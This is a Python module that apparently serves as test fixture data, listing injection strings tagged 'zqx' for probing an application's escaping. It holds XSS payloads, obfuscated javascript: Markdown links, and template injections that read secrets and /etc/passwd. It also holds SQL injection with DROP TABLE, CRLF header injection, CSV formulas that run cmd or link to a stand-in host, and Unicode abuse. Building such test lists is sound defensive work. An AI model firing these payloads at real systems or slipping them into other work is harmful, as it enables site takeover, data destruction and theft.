"""Hostile text: each piece does harm somewhere when it is taken for more than words. All carry MARK."""

MARK = "zqx"
"""Three letters that no word has: who finds them unescaped has found a hole."""
_CALL = "alert(`zqx`)"

SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    f"<img src=x onerror={_CALL}>zqx",
    f"<svg onload={_CALL}>zqx",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>zqx",
    f"<details open ontoggle={_CALL}>zqx</details>",
    f'" autofocus onfocus={_CALL} zqx="',
    f"' onmouseover={_CALL} zqx='",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}></style></table></mtext></math>zqx",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>"></noscript>zqx',
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>zqx",
    f"<form><button formaction=javascript:{_CALL}>zqx</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>zqx",
    "<base href=//elders.example/>zqx",
    "<link rel=stylesheet href=//elders.example/zqx.css>",
    f"<object data=javascript:{_CALL}></object>zqx",
    f"<template shadowrootmode=open><script>{_CALL}</script></template>zqx",
    f"\u003c\u0073cript>{_CALL}\u003c/script>zqx",
)
LINKS = (
    f"[zqx](javascript:{_CALL})",
    f"[zqx](JaVa\tScRiPt:{_CALL})",
    f"[zqx](java\u200bscript:{_CALL})",
    f"[zqx](&#106;avascript:{_CALL})",
    "[zqx](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<javascript:{_CALL}> zqx",
    "![zqx](https://elders.example/zqx.png)",
    f"[zqx]: javascript:{_CALL}\n[zqx]",
    "[zqx](https:elders.example)",
    f'[zqx](http://a"onclick={_CALL}//b)',
)
TEMPLATES = (
    "{{ 7*7 }}zqx{{ config.SECRET_KEY }}",
    "{% include '/etc/passwd' %}zqx",
    "%(zqx)s %s %d %n ${zqx} #{zqx} {0} {zqx.__class__}",
    '#read("/etc/passwd") #eval("1+1") $ zqx $ @zqx <zqx> \\u{41}',
    "<%= zqx %> <?php zqx ?>",
)
QUERIES = (
    "zqx'; DROP TABLE contribution; --",
    "zqx' OR '1'='1",
    'zqx" OR NEAR(a b) AND * : ( ^',
    "zqx%' ESCAPE '\\' _ %",
)
HEADERS = (
    "zqx\r\nBcc: slachtoffer@elders.example\r\n\r\nhallo",
    "zqx\nSet-Cookie: session=gestolen",
    "zqx%0d%0aLocation:%20https://elders.example",
)
SPREADSHEETS = (
    '=HYPERLINK("http://elders.example/zqx","klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0 zqx",
    "+zqx",
    "-2+3+zqx",
    "\t=zqx",
)
LETTERS = (
    "zqx\u202etxt.exe\u202c \u2066a\u2069",
    "zqx" + "\u0335\u0336\u0337\u0338\u0339" * 20,
    "zqx\u200d\u200d\U000e0041\ufeff\u00ad",
    "zqx" + "ﷺ" * 50,
    "zqx\x07\x1b[31m\x9b2J",
    "ｚqx　＜script＞ＡＬＥＲＴ（1）＜／script＞ zqx",
    "zqx שלום 123 العربية abc",
    "zqx" + "🏳️\u200d🌈" * 20,
)
LONG = ("zqx" + ">" * 900, "zqx" + "[" * 900, "zqx" + "*a_ " * 225, "zqx" + "a" * 900)

PAYLOADS = (*SCRIPTS, *LINKS, *TEMPLATES, *QUERIES, *HEADERS, *SPREADSHEETS, *LETTERS, *LONG)
